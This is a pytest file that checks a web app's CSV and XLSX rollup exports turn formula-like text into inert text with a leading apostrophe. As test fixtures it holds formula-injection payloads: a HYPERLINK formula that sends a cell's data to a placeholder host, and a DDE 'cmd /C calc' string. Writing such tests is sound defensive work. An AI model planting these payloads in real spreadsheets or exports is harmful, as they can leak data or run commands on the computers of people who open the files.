"""Exports are safe to open: text that a spreadsheet would run as a formula is made inert, in
the CSV and in the XLSX, through one function."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from core import db
from core.services.spreadsheet_safety import FORMULA_STARTS, safe_cell
from tests.helpers import not_applying_in_dundee

FORMULA = '=HYPERLINK("http://x/?d="&B3,"ok")'


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_text_starting_like_a_formula_is_given_an_apostrophe(start):
    assert safe_cell(f"{start}1+1") == f"'{start}1+1"


def test_other_values_are_left_as_they_are():
    assert safe_cell("Child protection") == "Child protection"
    assert safe_cell(-3) == -3 and safe_cell(None) is None
    assert safe_cell("a=b") == "a=b"


def test_rollup_exports_carry_formulas_as_text(app, client_for):
    with app.app_context(), db.transaction() as session:
        not_applying_in_dundee(session, FORMULA, text="@SUM(1+1)", reason="+cmd|' /C calc'!A0")
    web = client_for(app, "pg5")
    text = web.get("/tric/rollup.csv").text
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert f"'{FORMULA}" in cells and "'+cmd|' /C calc'!A0" in cells
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    book = load_workbook(io.BytesIO(web.get("/tric/rollup.xlsx").data))
    values = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in values if c.data_type == "f"]
    assert f"'{FORMULA}" in [c.value for c in values]
    assert not [
        c.value for c in values if isinstance(c.value, str) and c.value.startswith(FORMULA_STARTS)
    ]
